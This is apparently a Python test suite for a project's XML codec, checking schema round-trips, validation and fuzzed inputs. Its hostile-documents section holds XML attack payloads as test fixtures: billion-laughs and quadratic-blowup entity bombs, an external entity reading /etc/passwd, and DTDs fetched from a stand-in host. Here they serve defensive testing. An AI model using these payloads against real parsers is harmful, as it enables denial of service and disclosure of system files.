"""core/codec/legacy_xml.py: the TCP 377 XML document, schema version 1 of DESIGN.md."""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ltsp_mesh.core.codec import legacy_xml
from ltsp_mesh.core.codec.legacy_xml import ServerReport
from ltsp_mesh.core.record import Load, ServerState, record_from_load
from ltsp_mesh.errors import DecodeError

from .strategies import PROPERTY, reports

# The example of DESIGN.md, with the fingerprint and id filled in.
DESIGN_EXAMPLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<ltsp-server version="1" hostname="app1" id="0123456789abcdef" state="up">
  <cpu count="8" load1="0.52" load5="0.40" load15="0.31"/>
  <memory total-kib="16384000" available-kib="9000000"/>
  <swap total-kib="2097148" used-kib="0" swapping="false"/>
  <sessions count="12" pending="2" capacity="8"/>
  <ssh port="22" fingerprint="SHA256:nk66K+YVPC8ikwssL4uEHNHSZ5xd492nCBVRE6seZ90"/>
</ltsp-server>
"""
LOAD = Load(
    cpus=8,
    load1=0.52,
    load5=0.40,
    load15=0.31,
    mem_total_kib=16384000,
    mem_available_kib=9000000,
    swap_total_kib=2097148,
    swap_used_kib=0,
    swapping=False,
    sessions=12,
)
REPORT = ServerReport(
    hostname="app1",
    server_id="0123456789abcdef",
    state=ServerState.UP,
    load=LOAD,
    pending=2,
    capacity=8,
    ssh_port=22,
    host_key_fp="SHA256:nk66K+YVPC8ikwssL4uEHNHSZ5xd492nCBVRE6seZ90",
)


def replaced(old: bytes, new: bytes) -> bytes:
    assert old in DESIGN_EXAMPLE
    return DESIGN_EXAMPLE.replace(old, new, 1)


# --- the schema, both directions ---------------------------------------------------------------


def test_decode_reads_the_design_example() -> None:
    assert legacy_xml.decode(DESIGN_EXAMPLE) == REPORT


def test_encode_writes_a_document_decode_reads_back() -> None:
    assert legacy_xml.decode(legacy_xml.encode(REPORT)) == REPORT


def test_encode_starts_with_a_utf8_xml_declaration() -> None:
    assert legacy_xml.encode(REPORT).startswith(b"<?xml version='1.0' encoding='UTF-8'?>\n<ltsp-server ")


def test_encode_writes_every_element_of_the_schema() -> None:
    document = legacy_xml.encode(REPORT)
    for fragment in [
        b'version="1"',
        b'hostname="app1"',
        b'state="up"',
        b'load1="0.52"',
        b'load5="0.40"',
        b'total-kib="16384000"',
        b'swapping="false"',
        b'<sessions count="12" pending="2" capacity="8"',
        b'<ssh port="22" fingerprint="SHA256:',
    ]:
        assert fragment in document


@given(reports())
@PROPERTY
def test_decode_inverts_encode(report: ServerReport) -> None:
    assert legacy_xml.decode(legacy_xml.encode(report)) == report


def test_report_amounts_to_the_record_of_its_load() -> None:
    assert REPORT.record(query_port=377) == record_from_load(
        LOAD,
        server_id="0123456789abcdef",
        pending=2,
        capacity=8,
        state=ServerState.UP,
        query_port=377,
        host_key_fp="SHA256:nk66K+YVPC8ikwssL4uEHNHSZ5xd492nCBVRE6seZ90",
    )


def test_decode_reads_a_document_without_fingerprint_as_no_host_key() -> None:
    document = replaced(b' fingerprint="SHA256:nk66K+YVPC8ikwssL4uEHNHSZ5xd492nCBVRE6seZ90"', b"")
    assert legacy_xml.decode(document).host_key_fp == ""


def test_decode_reads_a_document_without_declaration_or_indentation() -> None:
    compact = b"".join(line.strip() for line in DESIGN_EXAMPLE.splitlines()[1:])
    assert legacy_xml.decode(compact) == REPORT


# --- ServerReport validation -------------------------------------------------------------------


@pytest.mark.parametrize("hostname", ["", "-app1", ".app1", "app_1", "app 1", "\u00e4pp1", "a" * 255])
def test_report_rejects_a_hostname_that_is_not_a_host_name(hostname: str) -> None:
    with pytest.raises(ValueError, match="hostname"):
        dataclasses.replace(REPORT, hostname=hostname)


@pytest.mark.parametrize("port", [0, 65536, True, 22.0, "22"])
def test_report_rejects_an_ssh_port_that_is_not_a_port(port: Any) -> None:
    with pytest.raises(ValueError, match="ssh_port"):
        dataclasses.replace(REPORT, ssh_port=port)


@pytest.mark.parametrize(
    "changes", [{"capacity": 0}, {"pending": -1}, {"server_id": ""}, {"host_key_fp": "a b"}]
)
def test_report_rejects_figures_a_record_would_reject(changes: dict[str, Any]) -> None:
    with pytest.raises(ValueError):
        dataclasses.replace(REPORT, **changes)


# --- decode: what it refuses -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("document", "complaint"),
    [
        (b"", "well formed"),
        (b"<ltsp-server", "well formed"),
        (b"not xml at all", "well formed"),
        (DESIGN_EXAMPLE[:-20], "well formed"),
        (b'<?xml version="1.0"?><server version="1"/>', "root"),
        (replaced(b"<ltsp-server ", b'<ltsp-server xmlns="urn:x" '), "root"),
        (replaced(b' version="1"', b""), "'version'"),
        (replaced(b' version="1"', b' version="2"'), "version '2'"),
        (replaced(b' version="1"', b' version="1.0"'), "version"),
        (replaced(b' state="up"', b' state="down"'), "state"),
        (replaced(b' state="up"', b""), "state"),
        (replaced(b' hostname="app1"', b""), "'hostname'"),
        (replaced(b' id="0123456789abcdef"', b""), "'id'"),
        (replaced(b'  <cpu count="8" load1="0.52" load5="0.40" load15="0.31"/>\n', b""), "<cpu>"),
        (replaced(b'  <memory total-kib="16384000" available-kib="9000000"/>\n', b""), "<memory>"),
        (replaced(b'  <swap total-kib="2097148" used-kib="0" swapping="false"/>\n', b""), "<swap>"),
        (replaced(b'  <sessions count="12" pending="2" capacity="8"/>\n', b""), "<sessions>"),
        (replaced(b'  <ssh port="22"', b'  <sshd port="22"'), "<ssh>"),
        (replaced(b' count="8"', b""), "'count'"),
        (replaced(b' count="8"', b' count="eight"'), "whole number"),
        (replaced(b' count="8"', b' count="-8"'), "whole number"),
        (replaced(b' count="8"', b' count="\xd9\xa8"'), "whole number"),  # an Arabic-Indic digit
        (replaced(b' count="8"', b' count="' + b"9" * 17 + b'"'), "whole number"),
        (replaced(b' load1="0.52"', b' load1="1e3"'), "decimal"),
        (replaced(b' load1="0.52"', b' load1="nan"'), "decimal"),
        (replaced(b' load1="0.52"', b' load1="-0.5"'), "decimal"),
        (replaced(b' swapping="false"', b' swapping="no"'), "true or false"),
        (replaced(b' swapping="false"', b' swapping="False"'), "true or false"),
        (replaced(b' count="8"', b' count="0"'), "out of range"),
        (replaced(b' available-kib="9000000"', b' available-kib="99999999"'), "out of range"),
        (replaced(b' used-kib="0"', b' used-kib="3000000"'), "out of range"),
        (replaced(b' capacity="8"', b' capacity="0"'), "out of range"),
        (replaced(b' port="22"', b' port="65536"'), "out of range"),
        (replaced(b'hostname="app1"', b'hostname="app_1"'), "out of range"),
        (replaced(b'id="0123456789abcdef"', b'id=""'), "out of range"),
    ],
)
def test_decode_rejects_a_document_outside_the_schema(document: bytes, complaint: str) -> None:
    with pytest.raises(DecodeError, match=complaint):
        legacy_xml.decode(document)


def test_decode_rejects_a_document_over_the_size_limit() -> None:
    padded = DESIGN_EXAMPLE.replace(b"</ltsp-server>", b" " * legacy_xml.MAX_XML_BYTES + b"</ltsp-server>")
    with pytest.raises(DecodeError, match="over"):
        legacy_xml.decode(padded)


# --- decode: hostile documents -----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ltsp-server version="1" hostname="&lol9;" id="x" state="up"/>
"""
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"A" * 8000 + b'">]>'
    b'<ltsp-server version="1" hostname="' + b"&a;" * 1000 + b'" id="x" state="up"/>'
)
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY pw SYSTEM "file:///etc/passwd">]>
<ltsp-server version="1" hostname="&pw;" id="x" state="up"/>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>
<ltsp-server version="1"/>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ltsp-server SYSTEM "http://192.0.2.1/ltsp.dtd">
<ltsp-server version="1"/>
"""
# A DTD that declares nothing still has no place in this schema: refusing every DTD is simpler
# to trust than telling harmless ones from harmful ones.
EMPTY_DTD = DESIGN_EXAMPLE.replace(b"\n<ltsp-server", b"\n<!DOCTYPE ltsp-server>\n<ltsp-server", 1)


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, QUADRATIC_BLOWUP, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, EMPTY_DTD],
    ids=[
        "billion laughs",
        "quadratic blowup",
        "external entity",
        "parameter entity",
        "external DTD",
        "empty DTD",
    ],
)
def test_decode_refuses_documents_with_a_dtd(document: bytes) -> None:
    with pytest.raises(DecodeError):
        legacy_xml.decode(document)


def test_decode_refuses_an_undefined_entity() -> None:
    with pytest.raises(DecodeError):
        legacy_xml.decode(replaced(b'hostname="app1"', b'hostname="&app;"'))


# These declarations name an encoding that Python's codec registry does not know as a text
# encoding. This used to raise LookupError out of decode (expat asks Python for the codec);
# captured as hex: <?xml version="1.0" encoding="x-foo"?><a/> and its siblings.
UNKNOWN_ENCODINGS = [
    "3c3f786d6c2076657273696f6e3d22312e302220656e636f64696e673d22782d666f6f223f3e3c612f3e",  # x-foo
    "3c3f786d6c2076657273696f6e3d22312e302220656e636f64696e673d22726f743133223f3e3c612f3e",  # rot13
    "3c3f786d6c2076657273696f6e3d22312e302220656e636f64696e673d22626173653634223f3e3c612f3e",  # base64
    "3c3f786d6c2076657273696f6e3d22312e302220656e636f64696e673d226d626373223f3e3c612f3e",  # mbcs
]


@pytest.mark.parametrize("document", UNKNOWN_ENCODINGS)
def test_decode_rejects_an_encoding_python_does_not_know(document: str) -> None:
    with pytest.raises(DecodeError):
        legacy_xml.decode(bytes.fromhex(document))


@pytest.mark.parametrize(
    "encoding", ["UTF-16", "utf-32", "shift_jis", "idna", "punycode", "undefined", "zlib"]
)
def test_decode_rejects_an_encoding_the_parser_cannot_use(encoding: str) -> None:
    document = DESIGN_EXAMPLE.replace(b'encoding="UTF-8"', f'encoding="{encoding}"'.encode())
    with pytest.raises(DecodeError):
        legacy_xml.decode(document)


# --- decode: never anything but DecodeError ----------------------------------------------------


def decodes_or_raises_decode_error(document: bytes) -> None:
    try:
        report = legacy_xml.decode(document)
    except DecodeError:
        return
    assert isinstance(report, ServerReport)


@given(st.binary(max_size=2000))
@PROPERTY
def test_decode_raises_only_decode_error_on_arbitrary_bytes(document: bytes) -> None:
    decodes_or_raises_decode_error(document)


@given(st.text(max_size=300))
@PROPERTY
def test_decode_raises_only_decode_error_on_arbitrary_text_after_an_xml_declaration(body: str) -> None:
    decodes_or_raises_decode_error(b'<?xml version="1.0"?>' + body.encode("utf-8", "surrogatepass"))


ENCODING_NAMES = st.one_of(
    st.sampled_from(
        [
            "utf-8",
            "latin-1",
            "ascii",
            "cp1252",
            "utf-16-le",
            "utf-7",
            "hex",
            "uu",
            "bz2",
            "koi8-r",
            "iso-2022-jp",
            "hz",
            "unicode_escape",
            "raw_unicode_escape",
            "utf-8-sig",
            "cp037",
        ]
    ),
    st.text("abcdefghijklmnopqrstuvwxyz0123456789-_", min_size=1, max_size=12),
)


# Python's unicode_escape codec warns about escapes like "\\]" in the bytes it decodes for expat.
@pytest.mark.filterwarnings("ignore:invalid escape sequence:DeprecationWarning")
@given(ENCODING_NAMES, st.binary(max_size=60))
@PROPERTY
def test_decode_raises_only_decode_error_whatever_encoding_is_declared(encoding: str, tail: bytes) -> None:
    document = DESIGN_EXAMPLE.replace(b'encoding="UTF-8"', f'encoding="{encoding}"'.encode())
    decodes_or_raises_decode_error(document + tail)


@given(reports(), st.data())
@PROPERTY
def test_decode_raises_only_decode_error_on_a_document_with_flipped_bytes(
    report: ServerReport, data: st.DataObject
) -> None:
    document = bytearray(legacy_xml.encode(report))
    for _ in range(data.draw(st.integers(1, 6))):
        document[data.draw(st.integers(0, len(document) - 1))] = data.draw(st.integers(0, 255))
    decodes_or_raises_decode_error(bytes(document))


@given(reports(), st.data())
@PROPERTY
def test_decode_raises_only_decode_error_on_a_document_with_text_spliced_in(
    report: ServerReport, data: st.DataObject
) -> None:
    document = legacy_xml.encode(report)
    start = data.draw(st.integers(0, len(document)))
    end = data.draw(st.integers(start, len(document)))
    splice = data.draw(
        st.one_of(
            st.sampled_from(
                [
                    b"",
                    b"<",
                    b"&",
                    b"&amp;",
                    b"&#0;",
                    b"&#x110000;",
                    b"<!DOCTYPE x>",
                    b"<![CDATA[",
                    b'"',
                    b"<!ENTITY a 'b'>",
                    b"<?pi x?>",
                    b"<!-- c -->",
                    b"\x00",
                    b"\xff\xfe",
                    b"\xef\xbb\xbf",
                ]
            ),
            st.binary(max_size=20),
        )
    )
    decodes_or_raises_decode_error(document[:start] + splice + document[end:])


@given(reports(), st.data())
@PROPERTY
def test_decode_rejects_every_truncated_document(report: ServerReport, data: st.DataObject) -> None:
    document = legacy_xml.encode(report)
    cut = data.draw(st.integers(0, document.rindex(b"</ltsp-server>") + len("</ltsp-server")))
    with pytest.raises(DecodeError):
        legacy_xml.decode(document[:cut])


@given(reports(), st.sampled_from(["cpu", "memory", "swap", "sessions", "ssh"]), st.text(max_size=20))
@PROPERTY
def test_decode_raises_only_decode_error_on_any_attribute_value(
    report: ServerReport, tag: str, value: str
) -> None:
    document = legacy_xml.encode(report).decode()
    start = document.index(f"<{tag} ")
    name_start = start + len(tag) + 2
    name_end = document.index("=", name_start)
    value_end = document.index('"', name_end + 2)
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    mutated = document[: name_end + 2] + escaped + document[value_end:]
    decodes_or_raises_decode_error(mutated.encode("utf-8", "surrogatepass"))
